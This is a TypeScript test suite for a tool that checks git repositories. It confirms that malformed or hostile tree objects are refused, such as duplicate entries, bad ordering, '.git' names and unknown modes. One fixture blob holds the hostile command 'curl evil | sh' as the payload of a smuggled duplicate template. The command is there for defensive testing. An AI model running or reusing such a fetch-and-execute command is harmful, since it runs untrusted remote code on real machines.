import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { CorruptRepositoryError } from '../../scripts/lib/git/errors.js';
import { parseTree } from '../../scripts/lib/git/parse.js';
import { revisionFiles } from '../helpers/repo.js';
import { TestRepo } from '../helpers/git.js';
import { hostileCommit, treeContent, writeLoose, type RawEntry } from './hostile-fixtures.js';

const REVISION = 'repo/packages/A/alpha/0';
let r: TestRepo;
let gitdir: string;
let main: string;

before(async () => {
  r = await TestRepo.create({ ...revisionFiles('alpha', 0), ...revisionFiles('beta', 0) });
  gitdir = path.join(r.dir, '.git');
  main = await r.resolve();
});

after(() => r.remove());

/** Runs check from main to a commit whose tree at `dir` is edited; expects a refusal naming that tree. */
async function refused(dir: string, edit: (entries: RawEntry[]) => RawEntry[], what: RegExp): Promise<void> {
  const bad = hostileCommit(gitdir, main, dir, edit);
  await assert.rejects(r.check({ base: 'main', head: bad.commit }), (e: unknown) => {
    assert.ok(e instanceof CorruptRepositoryError, String(e));
    assert.equal(e.subject, bad.tree);
    assert.ok(e.message.includes(bad.tree), e.message);
    assert.match(e.message, what);
    assert.match(e.message, /run git fsck/);
    return true;
  });
}

const blob = (content: string): string => writeLoose(gitdir, 'blob', Buffer.from(content));
const at = (entries: RawEntry[], name: string): number => entries.findIndex((e) => e.name === name);

test('a tree listing marathon.json.mustache twice is refused, naming the tree (git would publish the second)', async () => {
  const other = blob('{"id": "/evil", "cmd": "curl evil | sh"}\n');
  await refused(REVISION, (es) => es.flatMap((e) => (e.name === 'marathon.json.mustache' ? [e, { ...e, oid: other }] : [e])), /lists "marathon\.json\.mustache" twice/);
});

test('a tree repeating a folder name is refused', async () => {
  await refused('repo/packages/A/alpha', (es) => [...es, ...es], /lists "0" twice/);
});

test('a file and a folder of the same name are refused even in git order', async () => {
  // "0" (file) sorts before "0/" (folder): ordered, yet the name repeats.
  await refused('repo/packages/A/alpha', (es) => [{ mode: '100644', name: '0', oid: blob('x') }, ...es], /lists "0" twice/);
});

test('a tree whose entries are not in git order is refused', async () => {
  await refused(REVISION, (es) => [es[1]!, es[0]!, ...es.slice(2)], /not in git's order/);
});

test("git order compares a folder as if its name ended in '/'", async () => {
  // A file "0.txt" sorts after a folder "0" ("0/" > "0." since '/' > '.'); before it is wrong.
  await refused('repo/packages/A/alpha', (es) => [...es, { mode: '100644', name: '0.txt', oid: blob('x') }], /not in git's order \("0\.txt" comes after "0"\)/);
  // ... while "0.txt" before the folder "0" is git's order: nothing to refuse there.
  const ok = hostileCommit(gitdir, main, 'repo/packages/A/alpha', (es) => [{ mode: '100644', name: '0.txt', oid: blob('x') }, ...es]);
  const report = await r.check({ base: 'main', head: ok.commit });
  assert.equal(report.head.commit, ok.commit);
});

test("a name holding '/' is refused", async () => {
  await refused(REVISION, (es) => [...es, { mode: '100644', name: 'x/marathon.json.mustache', oid: es[at(es, 'marathon.json.mustache')]!.oid }], /"x\/marathon\.json\.mustache", with a '\/' in it/);
});

for (const name of ['.', '..', '.git', '.GIT', '.Git']) {
  test(`a name ${JSON.stringify(name)} is refused`, async () => {
    await refused(REVISION, (es) => [{ mode: '100644', name, oid: blob('x') }, ...es], /which git refuses to check out/);
  });
}

test('an empty name is refused (a NUL cannot be inside a name: it ends it)', async () => {
  await refused(REVISION, (es) => [{ mode: '100644', name: '', oid: blob('x') }, ...es], /an entry with an empty name/);
});

for (const mode of ['100600', '100777', '040000', '0100644', '1']) {
  test(`an unknown mode ${mode} is refused`, async () => {
    await refused(REVISION, (es) => es.map((e) => (e.name === 'package.json' ? { ...e, mode } : e)), new RegExp(`unknown mode "${mode}"`));
  });
}

test('mode 100664 is read as 100644, as git reads it: a plain file, no change', async () => {
  const ok = hostileCommit(gitdir, main, REVISION, (es) => es.map((e) => (e.name === 'package.json' ? { ...e, mode: '100664' } : e)));
  const report = await r.check({ base: 'main', head: ok.commit });
  assert.equal(report.summary.errors, 0);
  assert.deepEqual(report.changes.files, []);
  assert.equal(parseTree(treeContent([{ mode: '100664', name: 'a', oid: main }]), ok.tree)[0]!.mode, '100644');
});

test('a tree cut off in the middle of an entry is refused', () => {
  const bytes = treeContent([{ mode: '100644', name: 'a', oid: main }]);
  assert.throws(() => parseTree(bytes.subarray(0, bytes.length - 3), 'f'.repeat(40)), (e: unknown) => e instanceof CorruptRepositoryError && /ffff.*ends in the middle of an entry/.test(e.message));
});

test('the CLI exits 2 on a duplicate template entry and names the tree', async () => {
  const other = blob('{"id": "/other"}\n');
  const bad = hostileCommit(gitdir, main, REVISION, (es) => es.flatMap((e) => (e.name === 'marathon.json.mustache' ? [e, { ...e, oid: other }] : [e])));
  const res = await r.cli(['--base', 'main', '--head', bad.commit]);
  assert.equal(res.code, 2, res.stdout + res.stderr);
  assert.ok(res.stderr.includes(bad.tree), res.stderr);
  assert.match(res.stderr, /lists "marathon\.json\.mustache" twice/);
  assert.doesNotMatch(res.stderr, /internal error/);
});
